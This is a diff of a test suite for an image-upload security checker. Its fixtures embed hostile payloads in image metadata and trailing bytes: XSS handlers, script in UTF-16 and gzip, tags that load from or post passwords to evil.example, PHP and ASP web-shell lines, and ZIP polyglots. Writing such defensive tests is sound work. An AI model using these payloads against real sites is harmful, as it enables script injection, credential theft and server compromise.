@@ -1,12 +1,13 @@
-import { deflateSync } from 'node:zlib';
+import { deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { decodeImage } from '../src/image/decode.js';
 import { checkImageBytes } from '../src/security/imageCheck.js';
 import type { UploadPolicy } from '../src/security/imageCheck.js';
 import {
-  apng, isoBmff, jpegDeclaring, jpegSegments, multiPictureJpeg, pngChunk, pngDeclaring, scene, sources, webpDeclaring,
-  withJpegSegment, withPngChunk, zipOf,
+  appleIdot, apng, box, imageMagickVpag, isoBmff, jpegDeclaring, jpegSegments, motionVideo, multiPictureJpeg, pngChunk, pngDeclaring,
+  samsungMotionTrailer, samsungTrailer, scene, seededRandom, sources, tinyBoxes, utf16, webpDeclaring, withAnmfChunk, withJpegSegment,
+  withPngChunk, withWebpChunks, zipOf,
 } from './support/craft.js';
 import type { Sources } from './support/craft.js';
 
@@ -182,12 +183,12 @@ describe('JPEG structure', () => {
     expect(big.indexOf(Buffer.from([0xff, 0x00]), dataStart)).toBeGreaterThan(0);
     const middle = (dataStart + big.length) >> 1;
     const restarts = Buffer.concat([big.subarray(0, middle), Buffer.from([0xff, 0xd3]), big.subarray(middle, middle + 10), Buffer.from([0xff, 0xff, 0xd4]), big.subarray(middle + 10)]);
-    expect(check(Buffer.concat([restarts, text('tail')]))).toMatchObject({ width: 640, height: 480, trailingBytes: 4 });
+    expect(check(Buffer.concat([restarts, Buffer.alloc(4)]))).toMatchObject({ width: 640, height: 480, trailingBytes: 4 });
   });
 
   it('the end of a progressive JPEG is found after its last scan', () => {
     expect(jpegSegments(src.progressive).some((s) => s.marker === 0xc2)).toBe(true);
-    expect(check(Buffer.concat([src.progressive, Buffer.alloc(10, 0x41)]))).toMatchObject({ trailingBytes: 10 });
+    expect(check(Buffer.concat([src.progressive, Buffer.alloc(10, 0xff)]))).toMatchObject({ trailingBytes: 10 });
   });
 
   it('MPF secondary images (phone gain maps) are part of the photo, not trailing data', () => {
@@ -211,7 +212,7 @@ describe('PNG and WebP structure', () => {
 
   it('WebP: a RIFF size past the end is a cut upload; bytes past it are trailing data', () => {
     expect(refusal(src.webp.subarray(0, src.webp.length - 5)).code).toBe('PETCUT_E_CORRUPT_IMAGE');
-    expect(check(Buffer.concat([src.webp, Buffer.alloc(7, 1)]))).toMatchObject({ trailingBytes: 7 });
+    expect(check(Buffer.concat([src.webp, Buffer.alloc(7)]))).toMatchObject({ trailingBytes: 7 });
   });
 
   it('WebP: a canvas that does not match its image is damaged', () => {
@@ -284,6 +285,191 @@ describe('trailing data and polyglots', () => {
   });
 });
 
+/**
+ * Issue #12, item 9: what an outside tester got through. After the image only
+ * structures phones append are allowed; every byte of metadata is scanned,
+ * and active content is decided by what a browser or a script host acts on.
+ */
+describe('after the image: only what phones append (#12)', () => {
+  const zipLocalHeader = () => {
+    const zip = zipOf('x.js', text('alert(1)'));
+    return zip.subarray(0, zip.indexOf(text('PK\x01\x02'))); // the file's entry without its directory
+  };
+  const payloads: ReadonlyArray<readonly [string, () => Buffer]> = [
+    ['<img onerror>', () => text('<img src=x onerror=alert(1)>')],
+    ['<body onload>', () => text('<body onload=alert(document.domain)>')],
+    ['<object data>', () => text('<object data="https://evil.example/x.swf"></object>')],
+    ['<meta refresh>', () => text('<meta http-equiv=refresh content="0;url=https://evil.example/">')],
+    ['<script> in UTF-16LE', () => utf16('<script>alert(1)</script>', 'le')],
+    ['<script> in UTF-16BE', () => utf16('<script>alert(1)</script>', 'be')],
+    ['<script> in UTF-16LE with a BOM', () => utf16('<script>alert(1)</script>', 'le', true)],
+    ['<script> in UTF-16BE with a BOM', () => utf16('<script>alert(1)</script>', 'be', true)],
+    ['gzip', () => gzipSync(text('<script>alert(1)</script>'))],
+    ['RAR', () => Buffer.concat([text('Rar!\x1a\x07\x01\x00'), Buffer.alloc(40, 1)])],
+    ['7z', () => Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), Buffer.alloc(40, 1)])],
+    ['a ZIP entry after padding', () => Buffer.concat([Buffer.alloc(16), zipLocalHeader()])],
+  ];
+  const formats = ['jpeg', 'png', 'webp'] as const;
+  const cases = formats.flatMap((format) => payloads.map(([name, make]) => [format, name, make] as const));
+
+  it.each(cases)('%s + %s is refused', (format, _name, make) => {
+    const error = refusal(Buffer.concat([src[format], make()]));
+    expect(error).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422, message: expect.stringMatching(/save the photo again/) });
+  });
+
+  it.each([
+    ['markup after a motion-photo video', () => Buffer.concat([src.jpeg, motionVideo(), text('<img src=x onerror=alert(1)>')])],
+    ['a ZIP entry between a video and a Samsung trailer', () => Buffer.concat([src.jpeg, motionVideo(), zipLocalHeader(), samsungMotionTrailer()])],
+    ['a video whose last box runs past the end', () => Buffer.concat([src.jpeg, motionVideo().subarray(0, 2000)])],
+    ['boxes without an ftyp first', () => Buffer.concat([src.jpeg, box('mdat', text('<img src=x onerror=alert(1)>'))])],
+    ['a box smaller than its own header', () => Buffer.concat([src.jpeg, box('ftyp', text('isom\0\0\0\0')), Buffer.from([0, 0, 0, 3]), text('mdat<img src=x onerror=alert(1)>')])],
+    ['a damaged JPEG after the image', () => Buffer.concat([src.jpeg, src.progressive.subarray(0, 300)])],
+    ['a Samsung trailer with bytes its directory does not list', () => Buffer.concat([src.jpeg, text('<img src=x onerror=alert(1)>'), samsungMotionTrailer()])],
+    ['a Samsung directory pointing before the image end', () => {
+      const trailer = samsungMotionTrailer();
+      const back = trailer.length - 8 - (12 + 2 * 12) + 12 + 4; // the first entry's distance back from SEFH (two entries, then length and SEFT)
+      trailer.writeUInt32LE(trailer.readUInt32LE(back) + 500, back);
+      return Buffer.concat([src.jpeg, trailer]);
+    }],
+  ] as const)('%s is refused', (_name, make) => {
+    expect(refusal(make())).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
+  });
+
+  it('a JPEG after the image has its metadata scanned like the photo\'s (with and without MPF)', () => {
+    const hostile = withJpegSegment(src.progressive, 0xfe, text('<img src=x onerror=alert(1)>'));
+    expect(refusal(Buffer.concat([src.jpeg, hostile])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+    expect(refusal(multiPictureJpeg(src.jpeg, hostile)).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+  });
+
+  it('a ZIP whose directory is in the file\'s last 64 KiB is refused even inside the image or a video', () => {
+    const zip = zipOf('x.js', text('alert(1)'));
+    expect(refusal(Buffer.concat([src.jpeg, motionVideo(zip)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+    const beforeIend = Buffer.concat([src.png.subarray(0, src.png.length - 12), pngChunk('zpXx', zip), src.png.subarray(src.png.length - 12)]);
+    expect(refusal(beforeIend).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+    expect(refusal(Buffer.concat([src.jpeg, motionVideo(Buffer.concat([Buffer.alloc(500, 9), text('%PDF-1.7\n')]))])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+  });
+
+  it.each([
+    ['an MP4 motion photo (Google)', () => Buffer.concat([src.jpeg, motionVideo()])],
+    ['a gain map (MPF) then an MP4 (Ultra HDR motion photo)', () => Buffer.concat([multiPictureJpeg(src.jpeg, src.progressive), motionVideo()])],
+    ['JPEGs without MPF (depth and confidence maps) then an MP4', () => Buffer.concat([src.jpeg, src.progressive, src.jpeg, motionVideo()])],
+    ['a Samsung motion photo (video in an SEF trailer)', () => Buffer.concat([src.jpeg, samsungMotionTrailer()])],
+    ['an MP4 then a Samsung trailer', () => Buffer.concat([src.jpeg, motionVideo(), samsungTrailer([{ type: 0x0a01, name: 'Image_UTC_Data', data: text('1458170015363') }])])],
+    ['padding, then an MP4 with a 64-bit box size and a last box running to the end of the file', () => Buffer.concat([
+      src.jpeg, Buffer.alloc(100), box('ftyp', text('qt  \0\0\0\0')), box('wide', Buffer.alloc(0)), box('mdat', Buffer.alloc(5000, 7), true),
+      Buffer.from([0, 0, 0, 0]), text('free'), Buffer.alloc(64),
+    ])],
+    ['0xFF padding before a second JPEG', () => Buffer.concat([src.jpeg, Buffer.alloc(33, 0xff), src.progressive])],
+    ['a PNG with a video after it', () => Buffer.concat([src.png, motionVideo()])],
+    ['a WebP with a video after it', () => Buffer.concat([src.webp, motionVideo()])],
+  ] as const)('allowed: %s (and dropped by the re-encode)', (_name, make) => {
+    const data = make();
+    const checked = check(data);
+    expect(checked.trailingBytes).toBeGreaterThan(0);
+    expect(refusal(data, STRICT)).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', message: expect.stringMatching(/extra data after the photo/) });
+  });
+
+  it('the work is bounded: 30 MB of random bytes and a million tiny boxes are refused, not walked', () => {
+    const random = seededRandom(12);
+    const noise = Buffer.alloc(30 * 1024 * 1024 - src.jpeg.length - 64);
+    for (let i = 0; i + 4 <= noise.length; i += 4) noise.writeUInt32LE(Math.floor(random() * 2 ** 32), i);
+    expect(refusal(Buffer.concat([src.jpeg, noise])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+    expect(refusal(Buffer.concat([src.jpeg, tinyBoxes(1_000_000)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+    expect(refusal(Buffer.concat([src.jpeg, ...Array.from({ length: 100 }, () => src.progressive)])).code).toBe('PETCUT_E_SUSPICIOUS_CONTENT');
+  });
+});
+
+describe('metadata: every byte that is not pixel data is scanned (#12)', () => {
+  it.each([
+    ['PNG private chunk prVt', () => withPngChunk(src.png, 'prVt', text('<img src=x onerror=alert(1)>'))],
+    ['PNG unknown chunk htMl', () => withPngChunk(src.png, 'htMl', text('<html><body onload=alert(1)>'))],
+    ['PNG private chunk, UTF-16LE', () => withPngChunk(src.png, 'prVt', utf16('<script>alert(1)</script>', 'le'))],
+    ['PNG private chunk after IDAT', () => Buffer.concat([src.png.subarray(0, src.png.length - 12), pngChunk('ziPp', text('<iframe src=//evil.example>')), src.png.subarray(src.png.length - 12)])],
+    ['simple WebP (VP8) with an extra chunk', () => withWebpChunks(src.webp, [['HTML', text('<iframe src=//evil.example>')]])],
+    ['lossless WebP (VP8L) with an extra chunk', () => withWebpChunks(src.lossless, [['XYZW', text('<img src=x onerror=alert(1)>')]])],
+    ['extended WebP (VP8X) with an unknown chunk', () => withWebpChunks(src.animated, [['XYZW', text('<script>alert(1)</script>')]])],
+    ['extended WebP ICCP chunk', async () => {
+      const webp = await scene().withIccProfile('p3').webp().toBuffer();
+      const at = webp.indexOf(text('ICCP'));
+      return Buffer.concat([webp.subarray(0, at + 8), text('<svg onload=alert(1)>'), webp.subarray(at + 8 + 21)]);
+    }],
+    ['an unknown chunk inside an animation frame (ANMF)', () => withAnmfChunk(src.animated, 'XYZW', text('<img src=x onerror=alert(1)>'))],
+  ] as const)('%s holding markup is refused', async (_name, make) => {
+    expect(refusal(await make())).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
+  });
+
+  it.each([
+    ['<img onerror>', '<img src=x onerror=alert(1)>'],
+    ['an event handler on any element', '<div style="color:red" onmouseover=alert(1)>pet</div>'],
+    ['an event handler on a namespaced element', '<x:xmpmeta xmlns:x="adobe:ns:meta/" onfocus=alert(1) autofocus tabindex=1>'],
+    ['an event handler after a quoted ">"', '<p title=">" onpointerenter=alert(1)>'],
+    ['<math>', '<math><mi xlink:href=x>'],
+    ['<base href>', '<base href="https://evil.example/">'],
+    ['<form>', '<form action=https://evil.example/><input name=password type=password>'],
+    ['<link>', '<link rel=stylesheet href=//evil.example/x.css>'],
+    ['<style>', '<style>@import url(//evil.example/x.css)</style>'],
+    ['<embed>', '<embed src=//evil.example/x>'],
+    ['any doctype', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN">'],
+    ['PHP short echo', '<?= `$_GET[0]` ?>'],
+    ['ASP / JSP', '<% eval request("c") %>'],
+    ['vbscript: URL', '<a href="vbscript:msgbox(1)">'],
+    ['data:text/html URL', '<a href="data:text/html;base64,PHNjcmlwdD4=">'],
+    ['javascript: with a tab in it', '<a href="java\tscript:alert(1)">'],
+    ['a PDF header', '%PDF-1.4\n1 0 obj'],
+  ] as const)('JPEG COM with %s is refused', (_name, payload) => {
+    expect(refusal(withJpegSegment(src.jpeg, 0xfe, text(payload)))).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT', status: 422 });
+  });
+
+  it.each([
+    ['UTF-16LE', utf16('<script>alert(1)</script>', 'le')],
+    ['UTF-16BE', utf16('<img src=x onerror=alert(1)>', 'be')],
+    ['UTF-16LE with a BOM', utf16('<body onload=alert(1)>', 'le', true)],
+    ['UTF-16BE with a BOM', utf16('<?php system($_GET[0]); ?>', 'be', true)],
+  ] as const)('JPEG APP1 with markup in %s is refused', (_name, payload) => {
+    expect(refusal(withJpegSegment(src.jpeg, 0xe1, Buffer.concat([text('Exif\0\0'), payload])))).toMatchObject({ code: 'PETCUT_E_SUSPICIOUS_CONTENT' });
+  });
+});
+
+describe('legitimate metadata passes (#12)', () => {
+  const xmp = [
+    '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?>',
+    '<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 5.1.0-jc003">',
+    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
+    '<rdf:Description rdf:about="" xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" xmlns:Container="http://ns.google.com/photos/1.0/container/"',
+    ' xmlns:Item="http://ns.google.com/photos/1.0/container/item/" xmlns:dc="http://purl.org/dc/elements/1.1/" GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1">',
+    '<Container:Directory><rdf:Seq><rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary" Item:Length="0" Item:Padding="0"/></rdf:li>',
+    '<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto" Item:Length="4096" Item:Padding="0"/></rdf:li></rdf:Seq></Container:Directory>',
+    '<dc:description><rdf:Alt><rdf:li xml:lang="x-default">Rex &lt;3 on the sofa, 2 &gt; 1</rdf:li></rdf:Alt></dc:description>',
+    '</rdf:Description></rdf:RDF></x:xmpmeta>',
+    ' '.repeat(200),
+    '<?xpacket end="w"?>',
+  ].join('\n');
+
+  it.each(['jpeg', 'png', 'webp'] as const)('an XMP packet (namespaced tags, <?xpacket) in %s', async (format) => {
+    const data = await scene().withXmp(xmp).toFormat(format).toBuffer();
+    expect(data.includes(text('xpacket'))).toBe(true);
+    expect(check(data)).toMatchObject({ format, width: 64, trailingBytes: 0 });
+  });
+
+  it.each(['jpeg', 'png', 'webp'] as const)('an ICC profile and EXIF with ordinary text in %s', async (format) => {
+    const data = await scene().withIccProfile('p3').withExif({ IFD0: { Make: 'PetPhone', ImageDescription: 'I <3 my dog, 1 < 2 > 0; online: yes' } }).toFormat(format).toBuffer();
+    expect(check(data)).toMatchObject({ format, width: 64 });
+  });
+
+  it('an iPhone screenshot (Apple iDOT chunk) and ImageMagick vpAg', () => {
+    const iphone = withPngChunk(src.png, 'iDOT', appleIdot(48));
+    expect(check(iphone)).toMatchObject({ format: 'png', width: 64 });
+    expect(check(withPngChunk(iphone, 'vpAg', imageMagickVpag(64, 48)))).toMatchObject({ format: 'png', width: 64 });
+  });
+
+  it('inert markup and look-alikes: text-level elements, namespaced tags, processing instructions', () => {
+    for (const comment of ['a <b>bold</b> <i>pet</i>, <p>seen <a href="https://example.com/rex">here</a>', '<svgfoo> <scripted> <htmlx <imgur>',
+      '<x:script>no</x:script> <?xml version="1.0"?> <?adobe-xap-filters esc="CRLF"?>', 'one = two, onion=3, only =4 <%', '<%=x%> shows x', 'javascript course notes: closures']) {
+      expect(check(withJpegSegment(src.jpeg, 0xfe, text(comment))), comment).toMatchObject({ width: 64 });
+    }
+  });
+});
+
 describe('hostile structures are refused on a budget, not walked for seconds', () => {
   const repeat = (unit: readonly number[], bytes: number) => Buffer.alloc(bytes, Buffer.from(unit));
   const scanStart = () => {
@@ -296,10 +482,14 @@ describe('hostile structures are refused on a budget, not walked for seconds', (
     ['thousands of empty JPEG comments', () => Buffer.concat([src.jpeg.subarray(0, 2), repeat([0xff, 0xfe, 0, 2], 40_000), src.jpeg.subarray(2)]), 'PETCUT_E_CORRUPT_IMAGE'],
     ['a million empty PNG chunks', () => Buffer.concat([src.png.subarray(0, 33), repeat([...pngChunk('abCd', Buffer.alloc(0))], 12 << 20), src.png.subarray(33)]), 'PETCUT_E_CORRUPT_IMAGE'],
     ['a trailing region made of "<s"', () => Buffer.concat([src.jpeg, repeat([0x3c, 0x73], 2 << 20)]), 'PETCUT_E_SUSPICIOUS_CONTENT'],
+    ['a private PNG chunk made of "<s"', () => withPngChunk(src.png, 'prVt', repeat([0x3c, 0x73], 12 << 20)), 'PETCUT_E_SUSPICIOUS_CONTENT'],
+    ['a private PNG chunk of UTF-16 "<a"', () => withPngChunk(src.png, 'prVt', repeat([0x3c, 0, 0x61, 0], 24 << 20)), 'PETCUT_E_SUSPICIOUS_CONTENT'],
+    ['a COM segment of "<%" and text without a closer', () => withJpegSegment(src.jpeg, 0xfe, Buffer.alloc(65_000, '<% abc ')), 'ok'],
   ] as const)('%s', (_name, make, code) => {
     const data = make();
     const started = performance.now();
-    expect(refusal(data).code).toBe(code);
+    if (code === 'ok') expect(check(data)).toMatchObject({ width: 64 });
+    else expect(refusal(data).code).toBe(code);
     expect(performance.now() - started).toBeLessThan(1000); // a guard against a walk per byte, not a benchmark
   });
 
